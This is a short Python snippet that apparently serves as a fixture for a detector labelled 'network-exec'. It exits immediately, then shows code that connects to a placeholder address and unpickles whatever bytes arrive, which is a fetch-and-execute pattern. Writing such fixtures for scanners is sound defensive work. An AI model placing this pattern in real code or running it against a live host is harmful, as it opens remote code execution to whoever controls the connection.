raise SystemExit('a fixture')
# held by network-exec
import socket, pickle
s = socket.create_connection(("192.0.2.10", 9999))
pickle.loads(s.recv(65536))
